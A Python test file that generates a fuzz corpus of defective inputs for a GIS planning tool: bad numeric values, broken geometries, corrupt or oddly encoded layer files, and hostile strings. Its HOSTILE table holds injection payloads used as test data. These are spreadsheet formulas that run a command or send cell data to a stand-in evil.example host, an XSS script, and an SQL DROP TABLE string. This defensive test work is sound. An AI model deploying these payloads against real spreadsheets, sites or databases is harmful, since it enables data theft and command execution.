"""A generated fuzz corpus of hostile inputs: one small valid district with exactly one defect planted per case.

``tests/test_fuzz.py`` runs ``gis-planner validate`` and ``gis-planner run`` on every case. The generator is
deterministic (seeded from each case's id, no network) and fast: :func:`cases` only describes the cases,
:meth:`Case.build` writes one case folder (``plan.toml`` plus its layer files). Run this file to write the whole
corpus into a folder for a look by hand: ``python tests/fuzz_corpus.py OUT_FOLDER``.

Families (the first part of every case id, ``family-target-defect``):

- ``num``: non-finite, huge, negative, fractional and text values in every numeric field of every layer;
- ``geom``: NaN/inf vertices, empty, null, wrong type, self-intersecting, far-away and wrong-CRS geometries;
- ``file``: CSV encodings (GBK, UTF-16, Latin-1), truncated / 0-byte / random GeoPackages and GeoJSON, a
  Shapefile without ``.dbf``, folders of layer files, missing layers, odd ``[layers]`` read options;
- ``str``: hostile ids and names (NUL byte, 200,000 characters, spreadsheet formulas, ``<script>``, SQL, RTL
  marks, emoji, newlines);
- ``plan``: every key of ``data/defaults.toml`` (and the numeric keys of the stage sections) given a value of a
  wrong type or range, unknown keys and sections, files that are not UTF-8 or not TOML.

Each case says where a report about its defect must point (``where``: every fragment must appear; ``row``:
one of them must appear) and whether the defect may pass (``expect="any"``: a correct result is possible) or
must be reported (``expect="report"``: an error, or a warning that names it).
"""

from __future__ import annotations

import json
import math
import shutil
import sqlite3
import sys
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from gis_planner.config import default_settings
from gis_planner.datafiles import load_toml

CRS = "EPSG:4547"  # CGCS2000 / 3-degree Gauss-Kruger CM 114E
X0, Y0 = 500_000.0, 3_386_000.0
#: the 1-based row and the id of the planted feature in each layer (defects go into the second row)
ROW = "row 2"
IDS = {"compounds": "C002", "roads": "R2", "facilities": "F2", "vacant": "V2", "projects": "P2"}
ID_FIELDS = {"compounds": "compound_id", "roads": "road_id", "facilities": "facility_id",
             "vacant": "parcel_id", "projects": "project_id"}
#: characters that make a spreadsheet read a text cell as a formula (OWASP): such cells get a leading '
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

Layers = dict[str, gpd.GeoDataFrame]


# ----------------------------------------------------------------------------------------------- base
def base_layers() -> Layers:
    """The valid district every case starts from: four compounds, roads, facilities, two parcels, two projects."""
    def box(x0: float, y0: float, x1: float, y1: float) -> shapely.Polygon:
        return shapely.box(X0 + x0, Y0 + y0, X0 + x1, Y0 + y1)

    def line(*pts: tuple[float, float]) -> shapely.LineString:
        return shapely.LineString([(X0 + x, Y0 + y) for x, y in pts])

    compounds = gpd.GeoDataFrame(
        {
            "compound_id": ["C001", "C002", "C003", "C004"],
            "name": ["棉纺厂宿舍", "机械局家属院", "解放路8号院", "西关小区"],
            "build_year": [1986, 1994, 2003, 1991],
            "households": [300, 190, 90, 210],
            "floor_area_m2": [26_000.0, 16_000.0, 8_000.0, 18_500.0],
            "n_buildings": [8, 5, 3, 6],
            "consent_rate": [0.84, 0.75, 0.9, 0.7],
            "last_renovation_year": [2009, 2011, 2012, 2008],
            "parking_existing": [40, 22, 0, 15],
            "subdistrict": ["城关街道", "城关街道", "东城街道", "城关街道"],
        },
        geometry=[box(0, 0, 150, 120), box(170, 0, 290, 100), box(0, 150, 90, 230), box(-160, 0, -20, 110)],
        crs=CRS,
    )
    roads = gpd.GeoDataFrame(
        {"road_id": ["R1", "R2", "R3", "R4"], "road_class": ["arterial", "local", "path", "local"],
         "name": ["人民路", "建设巷", "滨河步道", "西关巷"]},
        geometry=[line((-180, -10), (440, -10)), line((160, -10), (160, 260)), line((-180, 135), (160, 135)),
                  line((-10, -10), (-10, 260))],
        crs=CRS,
    )
    facilities = gpd.GeoDataFrame(
        {"facility_id": ["F1", "F2", "F3"], "facility_type": ["kindergarten", "market", "health_station"],
         "name": ["城关幼儿园", "东门菜市场", "西关卫生站"], "capacity": [180.0, 60.0, 40.0],
         "floor_area_m2": [1_200.0, 800.0, 300.0]},
        geometry=[shapely.Point(X0 + 160, Y0 + 50), shapely.Point(X0 + 300, Y0 - 10),
                  shapely.Point(X0 - 10, Y0 + 60)],
        crs=CRS,
    )
    vacant = gpd.GeoDataFrame(
        {"parcel_id": ["V1", "V2"], "kind": ["vacant_land", "idle_building"], "owner_type": ["soe", "government"],
         "name": ["纺织厂空地", "原粮站用房"], "land_value_cny": [3_000_000.0, 0.0],
         "floor_area_m2": [0.0, 600.0]},
        geometry=[box(200, 150, 260, 200), box(-150, 150, -90, 200)],
        crs=CRS,
    )
    projects = gpd.GeoDataFrame(
        {"project_id": ["P1", "P2"], "kind": ["old_factory", "operating_facility"], "name": ["老厂区更新", "西关停车场"],
         "net_revenue_cny": [12_000_000.0, 3_000_000.0], "capex_cny": [5_000_000.0, 1_000_000.0]},
        geometry=[box(320, 0, 420, 80), shapely.Point(X0 + 400, Y0 + 150)],
        crs=CRS,
    )
    return {"compounds": compounds, "roads": roads, "facilities": facilities, "vacant": vacant,
            "projects": projects}


@cache
def _base() -> Layers:
    """The base layers shared by the case descriptions: read them, never change them (:func:`planted` copies)."""
    return base_layers()


def base_plan(layers: Any = "layers.gpkg") -> dict[str, Any]:
    """plan.toml of a case: the layers, and no map or reports (they are slow) unless a case asks for them."""
    return {"name": "fuzz", "layers": layers, "map": {"enabled": False, "reports": False}}


# ----------------------------------------------------------------------------------------------- writers
def toml_value(v: Any) -> str:
    """``v`` as a TOML value (non-finite floats as ``nan`` / ``inf``, control characters escaped)."""
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        if math.isnan(v):
            return "nan"
        if math.isinf(v):
            return "inf" if v > 0 else "-inf"
        return repr(v)
    if isinstance(v, str):
        out = []
        for ch in v:
            if ch in '"\\':
                out.append("\\" + ch)
            elif ord(ch) < 0x20 or ord(ch) == 0x7F:
                out.append(f"\\u{ord(ch):04x}")
            else:
                out.append(ch)
        return '"' + "".join(out) + '"'
    if isinstance(v, list | tuple):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, Mapping):
        return "{" + ", ".join(f"{toml_key(k)} = {toml_value(x)}" for k, x in v.items()) + "}"
    raise TypeError(f"no TOML form for {v!r}")


def toml_key(k: str) -> str:
    bare = k and all(c.isascii() and (c.isalnum() or c in "_-") for c in k)
    return k if bare else toml_value(k)


def toml_text(doc: Mapping[str, Any]) -> str:
    """A whole TOML document: top-level values first, then one ``[table]`` per nested mapping."""
    lines: list[str] = []

    def emit(table: Mapping[str, Any], prefix: str) -> None:
        subtables = {k: v for k, v in table.items() if isinstance(v, Mapping)}
        for k, v in table.items():
            if k not in subtables:
                lines.append(f"{toml_key(k)} = {toml_value(v)}")
        for k, v in subtables.items():
            name = f"{prefix}.{toml_key(k)}" if prefix else toml_key(k)
            lines.append("")
            lines.append(f"[{name}]")
            emit(v, name)

    emit(doc, "")
    return "\n".join(lines) + "\n"


@cache
def _base_gpkg_bytes() -> bytes:
    """The base district as GeoPackage bytes (written once; most cases copy it)."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "layers.gpkg"
        write_gpkg(path, base_layers())
        return path.read_bytes()


def write_gpkg(path: Path, layers: Layers) -> None:
    for name, gdf in layers.items():
        gdf.to_file(path, layer=name, driver="GPKG", engine="pyogrio")


def geojson_text(gdf: gpd.GeoDataFrame, raw: Mapping[str, str] | None = None) -> str:
    """GeoJSON of ``gdf`` with its CRS named (not RFC 7946 WGS-84); ``raw`` maps a JSON string literal of a
    placeholder value to raw text put in its place (``NaN``, ``Infinity`` — what GDAL writes nowhere)."""
    doc = json.loads(gdf.to_json(na="null", drop_id=True))
    if gdf.crs is not None:
        doc["crs"] = {"type": "name", "properties": {"name": f"urn:ogc:def:crs:EPSG::{gdf.crs.to_epsg()}"}}
    text = json.dumps(doc, ensure_ascii=False)
    for placeholder, literal in (raw or {}).items():
        text = text.replace(json.dumps(placeholder), literal)
    return text


def write_folder(folder: Path, layers: Layers) -> None:
    """One GeoJSON file per layer (``compounds.geojson`` ...), the documented folder input."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, gdf in layers.items():
        (folder / f"{name}.geojson").write_text(geojson_text(gdf), encoding="utf-8")


def write_plan(folder: Path, plan: Mapping[str, Any]) -> None:
    (folder / "plan.toml").write_text(toml_text(plan), encoding="utf-8")


def facilities_csv(gdf: gpd.GeoDataFrame) -> pd.DataFrame:
    """The facilities layer as a lon/lat table (WGS-84), the way a POI export looks."""
    wgs = gdf.to_crs("EPSG:4326")
    df = pd.DataFrame(wgs.drop(columns="geometry"))
    df["lon"] = wgs.geometry.x.round(7)
    df["lat"] = wgs.geometry.y.round(7)
    return df


def rng_for(case_id: str) -> np.random.Generator:
    """A random generator seeded from the case id: the corpus is the same on every machine and order."""
    return np.random.default_rng(zlib.crc32(case_id.encode("utf-8")))


def planted(layers: Layers, layer: str, column: str, value: Any, row: int = 1) -> Layers:
    """A copy of ``layers`` with ``value`` put into ``column`` of row ``row`` (0-based) of ``layer``.

    A text value turns the whole column into text (as a spreadsheet export would); a float into an int column
    turns it into float.
    """
    out = dict(layers)
    gdf = out[layer] = layers[layer].copy()
    if column == "geometry":
        geoms = list(gdf.geometry)
        geoms[row] = value
        out[layer] = gpd.GeoDataFrame(gdf.drop(columns="geometry"), geometry=geoms, crs=gdf.crs)
        return out
    if isinstance(value, str):
        col = gdf[column].astype(object).map(lambda v: None if v is None or (isinstance(v, float) and
                                                                             math.isnan(v)) else str(v))
        col.iloc[row] = value
        gdf[column] = col
    else:
        col = gdf[column].astype(float) if isinstance(value, float) else gdf[column].astype(object)
        col.iloc[row] = value
        gdf[column] = col
    return out


# ----------------------------------------------------------------------------------------------- cases
@dataclass(frozen=True)
class Case:
    """One fuzz case.

    Attributes
    ----------
    id : ``family-target-defect``; also the case folder's name.
    family : num, geom, file, str or plan.
    writer : writes the case into its (empty) folder: ``plan.toml`` and the layer files.
    where : fragments a report about the defect must all contain (layer or file name, field or key).
    row : for row-level defects: a report must contain one of these (the 1-based row, the id).
    expect : "report" — the defect must be reported (exit 2 naming it, or a warning naming it);
        "any" — a correct result is possible, but an error must still name where.
    layers_arg : passed as ``--layers`` to ``run`` and as the layers argument of ``validate`` (else the plan's).
    hostile : (layer, field, value) planted whose verbatim survival is checked after a successful run.
    names : (layer, names) the layer's ``name`` column must have in ``plan.gpkg`` after a successful run
        (text decoded right).
    map : whether the case writes map.html (a finished run must have it; checked for unescaped markup).
    """

    id: str
    family: str
    writer: Callable[[Path], None] = field(repr=False, compare=False)
    where: tuple[str, ...] = ()
    row: tuple[str, ...] = ()
    expect: str = "any"
    layers_arg: str | None = None
    hostile: tuple[str, str, str] | None = None
    names: tuple[str, tuple[str, ...]] | None = None
    map: bool = False

    def build(self, folder: Path) -> Path:
        """Write the case into ``folder`` (created); return it."""
        folder.mkdir(parents=True, exist_ok=False)
        self.writer(folder)
        return folder


def _gpkg_case(layers: Layers | None = None, plan: Mapping[str, Any] | None = None,
               after: Callable[[Path], None] | None = None) -> Callable[[Path], None]:
    """A writer: the layers as ``layers.gpkg`` (the base when None), the plan, then ``after(folder)``.

    Layers that are the base's own frames are copied from the base GeoPackage, only changed ones rewritten.
    """
    def write(folder: Path) -> None:
        path = folder / "layers.gpkg"
        base = _base()
        if layers is None or set(layers) == set(base):
            path.write_bytes(_base_gpkg_bytes())
            write_gpkg(path, {k: v for k, v in (layers or {}).items() if v is not base[k]})
        else:
            write_gpkg(path, layers)
        write_plan(folder, plan or base_plan())
        if after is not None:
            after(folder)
    return write


def _folder_case(layers: Layers, plan: Mapping[str, Any] | None = None,
                 after: Callable[[Path], None] | None = None) -> Callable[[Path], None]:
    """A writer: the layers as a folder of GeoJSON files ``layers/``, the plan, then ``after(folder)``."""
    def write(folder: Path) -> None:
        write_folder(folder / "layers", layers)
        write_plan(folder, plan or base_plan("layers"))
        if after is not None:
            after(folder)
    return write


def _row(layer: str) -> tuple[str, ...]:
    return (ROW, IDS[layer])


# --- (a) numbers --------------------------------------------------------------------------------------
#: numeric fields of each layer and their kind (int / year / float / fraction), as in data/schema.toml
NUMERIC_FIELDS: dict[str, dict[str, str]] = {
    "compounds": {"build_year": "year", "households": "int", "floor_area_m2": "float", "n_buildings": "int",
                  "consent_rate": "fraction", "last_renovation_year": "year", "parking_existing": "int"},
    "vacant": {"land_value_cny": "float", "floor_area_m2": "float"},
    "facilities": {"capacity": "float", "floor_area_m2": "float"},
    "projects": {"net_revenue_cny": "float", "capex_cny": "float"},
}
#: fields whose empty value is an error or must be reported (required data; issue 13: households NaN)
MUST_HAVE = {("compounds", "households"), ("projects", "net_revenue_cny")}
#: fields where a negative value is valid
SIGNED = {("projects", "net_revenue_cny")}
#: fields with a schema maximum that 1e30 exceeds, or whole numbers (1e30 is not a count)
BOUNDED = {("compounds", f) for f in ("build_year", "households", "floor_area_m2", "n_buildings",
                                      "consent_rate", "last_renovation_year", "parking_existing")} | {
    ("projects", "net_revenue_cny")}


#: fields that also get the text "Infinity" (and, households and capacity, GeoJSON NaN / -Infinity literals)
TEXT_INF = {("compounds", "households"), ("facilities", "capacity"), ("projects", "net_revenue_cny")}


#: optional floor areas of other layers: accepted when empty or huge, like compounds' n_buildings
_ALIKE = {("vacant", "floor_area_m2"), ("facilities", "floor_area_m2"), ("projects", "capex_cny")}


def _number_cases() -> list[Case]:
    cases: list[Case] = []
    base = _base()
    for layer, fields in NUMERIC_FIELDS.items():
        for fld, kind in fields.items():
            whole = kind in ("int", "year")
            defects: dict[str, tuple[Any, str]] = {
                "nan": (float("nan"), "report" if (layer, fld) in MUST_HAVE else "any"),
                "inf": (float("inf"), "report"),
                "huge": (1e30, "report" if (layer, fld) in BOUNDED or whole else "any"),
                "negative": (-3.0 if not whole else -3, "any" if (layer, fld) in SIGNED else "report"),
            }
            if (layer, fld) in _ALIKE:  # an empty or huge optional area is accepted: one such case is enough
                del defects["nan"], defects["huge"]
            if layer == "compounds" or fld == next(iter(fields)):
                defects["text"] = ("abc", "report")
            if (layer, fld) in TEXT_INF:
                defects["textinf"] = ("Infinity", "report")
            if whole:
                defects["fraction"] = (12.5, "report")
                defects["floatstring"] = (f"{base[layer][fld].iloc[1]}.0", "any")
            if kind == "year":
                defects["zero"] = (0, "report")
            for name, (value, expect) in defects.items():
                cases.append(Case(
                    id=f"num-{layer}.{fld}-{name}", family="num",
                    writer=_gpkg_case(planted(base, layer, fld, value)),
                    where=(layer, fld), row=_row(layer), expect=expect))
            # a real NaN / Infinity (GDAL keeps them in GeoJSON, turns NaN into NULL in a GeoPackage)
            if fld not in ("households", "capacity"):
                continue
            for name, literal in (("jsonnan", "NaN"), ("jsonneginf", "-Infinity")):
                cases.append(Case(
                    id=f"num-{layer}.{fld}-{name}", family="num", writer=_raw_json_writer(layer, fld, literal),
                    where=(layer, fld), row=_row(layer),
                    expect="report" if name == "jsonneginf" or (layer, fld) in MUST_HAVE else "any"))
    return cases


def _raw_json_writer(layer: str, fld: str, literal: str) -> Callable[[Path], None]:
    """A writer: the layers as GeoJSON files with ``literal`` (``NaN``, ``-Infinity``) as row 2's ``fld``."""
    def write(folder: Path) -> None:
        layers = base_layers()
        gdf = layers[layer].copy()
        gdf[fld] = gdf[fld].astype(object)
        gdf.loc[gdf.index[1], fld] = "__RAW__"
        write_folder(folder / "layers", layers)
        write_plan(folder, base_plan("layers"))
        (folder / "layers" / f"{layer}.geojson").write_text(geojson_text(gdf, {"__RAW__": literal}),
                                                            encoding="utf-8")
    return write


# --- (b) geometries ----------------------------------------------------------------------------------
#: defects planted into some layers only (the others get every defect that fits their geometry type)
_GEOM_ONLY = {"infvertex": ("compounds", "roads", "facilities"), "lonlat": ("compounds", "facilities"),
              "zeroarea": ("compounds", "vacant"), "collection": ("compounds",)}


def _geometry_cases() -> list[Case]:
    base = _base()
    cases: list[Case] = []
    kinds = {"compounds": "polygon", "roads": "line", "facilities": "point", "vacant": "polygon",
             "projects": "any"}
    for layer, kind in kinds.items():
        g = base[layer].geometry.iloc[1]
        x, y = shapely.get_coordinates(g)[0]
        defects: dict[str, tuple[Any, str]] = {
            "nanvertex": (_with_vertex(g, float("nan")), "report"),
            "infvertex": (_with_vertex(g, float("inf")), "report"),
            "empty": ({"polygon": shapely.Polygon(), "line": shapely.LineString(), "point": shapely.Point(),
                       "any": shapely.Polygon()}[kind], "report"),
            "null": (None, "report"),
            "farvertex": (shapely.affinity.translate(g, xoff=1e9), "report"),
            # one row given in degrees inside a metre layer: outside the CRS's area of use, like farvertex
            "lonlat": (shapely.affinity.translate(g, xoff=114.05 - x, yoff=30.6 - y), "report"),
        }
        wrong = {"polygon": shapely.Point(x, y), "line": shapely.box(x, y, x + 10, y + 10),
                 "point": shapely.LineString([(x, y), (x + 10, y)])}
        if kind in wrong:
            defects["wrongtype"] = (wrong[kind], "report")
        if kind in ("polygon", "any"):
            defects["bowtie"] = (shapely.Polygon([(x, y), (x + 100, y + 80), (x + 100, y), (x, y + 80)]),
                                 "report")
            defects["zeroarea"] = (shapely.Polygon([(x, y), (x + 50, y), (x + 100, y)]), "report")
            defects["collection"] = (shapely.GeometryCollection([shapely.box(x, y, x + 40, y + 40),
                                                                 shapely.Point(x, y)]), "any")
        if kind == "line":
            defects["onepoint"] = (shapely.LineString([(x, y), (x, y)]), "report")
        for name, (geom, expect) in defects.items():
            if layer not in _GEOM_ONLY.get(name, kinds):
                continue
            cases.append(Case(id=f"geom-{layer}-{name}", family="geom",
                              writer=_gpkg_case(planted(base, layer, "geometry", geom)),
                              where=(layer,), row=_row(layer), expect=expect))
    # whole layers in another CRS: reprojected (a warning), or declared wrongly (far away: an error)
    for layer, crs in (("facilities", "EPSG:4326"), ("roads", "EPSG:3857"), ("compounds", "EPSG:4326")):
        layers = dict(base)
        layers[layer] = layers[layer].to_crs(crs)
        cases.append(Case(id=f"geom-{layer}-crs{crs.split(':')[1]}", family="geom",
                          writer=_gpkg_case(layers), where=(layer,), expect="any"))
    layers = dict(base)
    layers["vacant"] = layers["vacant"].set_crs("EPSG:32650", allow_override=True)
    cases.append(Case(id="geom-vacant-wrongdeclaredcrs", family="geom", writer=_gpkg_case(layers),
                      where=("vacant",), expect="report"))
    # 60 identical compounds on one spot (heavy overlap: issue 13 asks for a warning and bounded memory)
    c = base["compounds"]
    stack = pd.concat([c.iloc[[1]]] * 60, ignore_index=True)
    stack["compound_id"] = [f"D{i:03d}" for i in range(len(stack))]
    layers = dict(base)
    layers["compounds"] = gpd.GeoDataFrame(pd.concat([c, stack], ignore_index=True), crs=CRS)
    cases.append(Case(id="geom-compounds-60identical", family="geom", writer=_gpkg_case(layers),
                      where=("compounds",), expect="report"))
    return cases


def _with_vertex(g: shapely.Geometry, value: float) -> shapely.Geometry:
    """``g`` with the x of its second vertex (a point: its only one) replaced by ``value``."""
    coords = shapely.get_coordinates(g)
    coords[min(1, len(coords) - 1), 0] = value
    return shapely.set_coordinates(g, coords)


# --- (c) encodings and files -------------------------------------------------------------------------
def _file_cases() -> list[Case]:
    base = _base()
    cases: list[Case] = []

    def csv_case(case_id: str, encoding: str, *, folder: bool = False, expect: str = "any",
                 latin: bool = False, text: Callable[[str], bytes] | None = None,
                 where: tuple[str, ...] = ("facilities.csv",), row: tuple[str, ...] = (),
                 table: Callable[[pd.DataFrame], pd.DataFrame] | None = None) -> None:
        fac = base["facilities"].copy()
        if latin:
            fac["name"] = ["Crèche Müller", "Marché Côté", "Santé Zoë"]
        df = facilities_csv(fac)
        if table is not None:
            df = table(df)
        body = df.to_csv(index=False, lineterminator="\n")
        data = text(body) if text else body.encode(encoding)

        def write(f: Path) -> None:
            others = {k: v for k, v in base.items() if k != "facilities"}
            if folder:
                write_folder(f / "layers", others)
                (f / "layers" / "facilities.csv").write_bytes(data)
                write_plan(f, base_plan("layers"))
            else:
                write_gpkg(f / "layers.gpkg", others)
                (f / "facilities.csv").write_bytes(data)
                write_plan(f, base_plan({**{k: "layers.gpkg" for k in others}, "facilities": "facilities.csv"}))

        cases.append(Case(id=case_id, family="file", writer=write, where=where, row=row, expect=expect,
                          names=("facilities", tuple(fac["name"])) if table is None else None))

    csv_case("file-facilities.csv-utf8bom", "utf-8-sig")
    csv_case("file-facilities.csv-gbk", "gbk")
    csv_case("file-facilities.csv-gbkfolder", "gbk", folder=True)
    csv_case("file-facilities.csv-utf16", "utf-16")
    csv_case("file-facilities.csv-latin1", "latin-1", latin=True)
    csv_case("file-facilities.csv-empty", "utf-8", text=lambda s: b"", expect="report")
    csv_case("file-facilities.csv-headeronly", "utf-8", text=lambda s: s.splitlines()[0].encode() + b"\n",
             where=("facilities",))
    csv_case("file-facilities.csv-randombytes", "utf-8", expect="report",
             text=lambda s: rng_for("csv-random").bytes(4096))
    csv_case("file-facilities.csv-nolon", "utf-8", expect="report", table=lambda d: d.drop(columns="lon"))
    csv_case("file-facilities.csv-badcoord", "utf-8", expect="report", row=("row 2",),
             table=lambda d: d.assign(lon=d["lon"].astype(object).where(d.index != 1, "abc")))
    csv_case("file-facilities.csv-nancoord", "utf-8", expect="report", row=("row 2",),
             table=lambda d: d.assign(lat=d["lat"].astype(object).where(d.index != 1, "nan")))
    csv_case("file-facilities.csv-infcoord", "utf-8", expect="report", row=("row 2",),
             table=lambda d: d.assign(lon=d["lon"].astype(object).where(d.index != 1, "inf")))
    csv_case("file-facilities.csv-raggedrow", "utf-8", expect="report", row=("row 2", "3"),
             text=lambda s: "\n".join(ln + (",x,y,z" if i == 2 else "") for i, ln in
                                      enumerate(s.splitlines())).encode())

    # GeoPackages that are not
    def corrupt(case_id: str, damage: Callable[[bytes], bytes]) -> None:
        def after(f: Path) -> None:
            p = f / "layers.gpkg"
            p.write_bytes(damage(p.read_bytes()))
        cases.append(Case(id=case_id, family="file", writer=_gpkg_case(after=after), where=("layers.gpkg",),
                          expect="report"))

    corrupt("file-layers.gpkg-truncatedhalf", lambda b: b[: len(b) // 2])
    corrupt("file-layers.gpkg-truncated4k", lambda b: b[:4096])
    corrupt("file-layers.gpkg-zerobytes", lambda b: b"")
    corrupt("file-layers.gpkg-randombytes", lambda b: rng_for("gpkg-random").bytes(len(b)))
    corrupt("file-layers.gpkg-geojsontext", lambda b: geojson_text(base["compounds"]).encode())

    def plain_sqlite(f: Path) -> None:
        p = f / "layers.gpkg"
        p.unlink()
        with sqlite3.connect(p) as db:
            db.execute("CREATE TABLE compounds (compound_id TEXT, households INTEGER)")
            db.execute("INSERT INTO compounds VALUES ('C001', 300)")
        db.close()

    cases.append(Case(id="file-layers.gpkg-plainsqlite", family="file", writer=_gpkg_case(after=plain_sqlite),
                      where=("layers.gpkg",), expect="report"))

    def as_directory(f: Path) -> None:
        (f / "layers.gpkg").unlink()
        (f / "layers.gpkg").mkdir()

    cases.append(Case(id="file-layers.gpkg-isdirectory", family="file", writer=_gpkg_case(after=as_directory),
                      where=("layers.gpkg",), expect="report"))
    cases.append(Case(id="file-layers.gpkg-notfound", family="file",
                      writer=_gpkg_case(plan=base_plan("nowhere.gpkg")), where=("nowhere.gpkg",),
                      expect="report"))

    # missing layers and extra layers
    for layer in ("compounds", "facilities", "roads", "vacant", "projects"):
        rest = {k: v for k, v in base.items() if k != layer}
        cases.append(Case(id=f"file-{layer}-missing", family="file", writer=_gpkg_case(rest), where=(layer,),
                          expect="report"))
    extra = {**base, "compounds_old": base["compounds"]}
    cases.append(Case(id="file-layers.gpkg-extralayer", family="file", writer=_gpkg_case(extra),
                      where=("compounds_old",)))
    layers = {k: v.iloc[:0] if k == "facilities" else v for k, v in base.items()}
    cases.append(Case(id="file-facilities-nofeatures", family="file", writer=_gpkg_case(layers),
                      where=("facilities",), expect="report"))

    # folders of layer files
    cases.append(Case(id="file-layers-folder", family="file", writer=_folder_case(base)))
    cases.append(Case(id="file-layers-folderarg", family="file", writer=_folder_case(base),
                      layers_arg="layers"))

    def twice(f: Path) -> None:
        shutil.copy(f / "layers" / "compounds.geojson", f / "layers" / "小区.geojson")

    cases.append(Case(id="file-layers-twofilesonelayer", family="file", writer=_folder_case(base, after=twice),
                      where=("compounds", "小区.geojson"), expect="report"))

    def emptied(f: Path) -> None:
        for p in (f / "layers").iterdir():
            p.unlink()

    cases.append(Case(id="file-layers-emptyfolder", family="file", writer=_folder_case(base, after=emptied),
                      where=("layers",), expect="report"))

    def dir_named_like_file(f: Path) -> None:
        (f / "layers" / "facilities.geojson").unlink()
        (f / "layers" / "facilities.geojson").mkdir()

    cases.append(Case(id="file-facilities.geojson-isdirectory", family="file",
                      writer=_folder_case(base, after=dir_named_like_file), where=("facilities.geojson",),
                      expect="report"))

    def geojson_damage(case_id: str, damage: Callable[[bytes], bytes], expect: str = "report",
                       names: bool = False) -> None:
        def after(f: Path) -> None:
            p = f / "layers" / "compounds.geojson"
            p.write_bytes(damage(p.read_bytes()))
        cases.append(Case(id=case_id, family="file", writer=_folder_case(base, after=after),
                          where=("compounds.geojson",), expect=expect,
                          names=("compounds", tuple(base["compounds"]["name"])) if names else None))

    geojson_damage("file-compounds.geojson-truncated", lambda b: b[: len(b) // 2])
    geojson_damage("file-compounds.geojson-zerobytes", lambda b: b"")
    geojson_damage("file-compounds.geojson-notjson", lambda b: b"this is not json {")
    geojson_damage("file-compounds.geojson-gbk", lambda b: b.decode("utf-8").encode("gbk"), expect="any",
                   names=True)
    geojson_damage("file-compounds.geojson-utf16", lambda b: b.decode("utf-8").encode("utf-16"),
                   expect="any", names=True)

    # Shapefiles
    def shp_case(case_id: str, encoding: str, drop: tuple[str, ...] = (), cpg: str | None = None,
                 expect: str = "any", where: tuple[str, ...] = ("compounds.shp",)) -> None:
        def write(f: Path) -> None:
            folder = f / "layers"
            write_folder(folder, {k: v for k, v in base.items() if k != "compounds"})
            base["compounds"].to_file(folder / "compounds.shp", engine="pyogrio", encoding=encoding)
            for ext in (".cpg", *drop):
                (folder / f"compounds{ext}").unlink(missing_ok=True)
            if cpg is not None:
                (folder / "compounds.cpg").write_text(cpg, encoding="ascii")
            write_plan(f, base_plan("layers"))
        cases.append(Case(id=case_id, family="file", writer=write, where=where, expect=expect,
                          names=("compounds", tuple(base["compounds"]["name"]))))

    shp_case("file-compounds.shp-gbknocpg", "GBK")
    shp_case("file-compounds.shp-cpglies", "GBK", cpg="UTF-8")
    shp_case("file-compounds.shp-nodbf", "UTF-8", drop=(".dbf",), expect="report")
    shp_case("file-compounds.shp-noshx", "UTF-8", drop=(".shx",))
    shp_case("file-compounds.shp-noprj", "UTF-8", drop=(".prj",), expect="report")
    shp_case("file-compounds.shp-unknowncpg", "UTF-8", cpg="KLINGON-8")

    # [layers] tables with odd read options
    def layer_table(case_id: str, spec: Mapping[str, Any], where: tuple[str, ...], expect: str = "report",
                    csv: bool = False) -> None:
        def write(f: Path) -> None:
            write_gpkg(f / "layers.gpkg", base)
            if csv:
                (f / "facilities.csv").write_text(facilities_csv(base["facilities"]).to_csv(index=False),
                                                  encoding="utf-8")
            table = {k: "layers.gpkg" for k in base}
            table.update(spec)
            write_plan(f, base_plan(table))
        cases.append(Case(id=case_id, family="file", writer=write, where=where, expect=expect))

    layer_table("file-layers-gpkglayermissing", {"compounds": {"path": "layers.gpkg", "layer": "nope"}},
                where=("nope",))
    layer_table("file-layers-unknownoption", {"compounds": {"path": "layers.gpkg", "colour": "red"}},
                where=("colour",))
    layer_table("file-layers-unknownlayer", {"buildings": "layers.gpkg"}, where=("buildings",))
    layer_table("file-layers-badencoding", {"facilities": {"path": "facilities.csv", "encoding": "no-such-codec"}},
                where=("no-such-codec",), csv=True)
    layer_table("file-layers-encodingnumber", {"facilities": {"path": "facilities.csv", "encoding": 8}},
                where=("encoding",), csv=True)
    layer_table("file-layers-badcoordsystem", {"facilities": {"path": "facilities.csv", "coord_system": "mars"}},
                where=("mars",), csv=True)
    layer_table("file-layers-lonmissing", {"facilities": {"path": "facilities.csv", "lon": "x"}},
                where=("facilities.csv", "x"), csv=True)
    layer_table("file-layers-emptypath", {"roads": ""}, where=("roads",))
    layer_table("file-layers-pathnotstring", {"roads": {"path": 5}}, where=("roads",))
    return cases


# --- (d) hostile strings -----------------------------------------------------------------------------
HOSTILE: dict[str, str] = {
    "nul": "C\x00002",
    "long": "长" * 200_000,
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"查看")',
    "cmd": "+cmd|' /C calc'!A0",
    "atsum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "sql": "x'); DROP TABLE compounds; --",
    "rtl": "\u202e2C00\u202c",
    "emoji": "🏚️小区👨‍👩‍👧",
    "newline": "第一行\n第二行\r\n第三行",
    "quote": '"引号",逗号;分号',
    "blank": "   ",
}


def _string_cases() -> list[Case]:
    base = _base()
    cases: list[Case] = []
    plan_fields = [("compounds", "compound_id", ["nul", "long", "hyperlink", "cmd", "atsum", "minus", "tab",
                                                 "cr", "script", "newline", "blank"]),
                   ("compounds", "name", ["nul", "long", "hyperlink", "script", "sql", "rtl", "emoji", "quote"]),
                   ("compounds", "subdistrict", ["cmd"]),
                   ("facilities", "facility_id", ["nul", "cmd"]),
                   ("facilities", "name", ["hyperlink"]),
                   ("roads", "name", ["script"]),
                   ("projects", "project_id", ["cmd", "nul"]),
                   ("vacant", "parcel_id", ["sql"])]
    for layer, fld, kinds in plan_fields:
        for kind in kinds:
            value = HOSTILE[kind]
            is_id = fld == ID_FIELDS[layer]
            # NUL cannot be written by GDAL: it is put into the GeoPackage with SQLite, and a GeoJSON variant
            after = _sqlite_set(layer, fld, value) if "\x00" in value else None
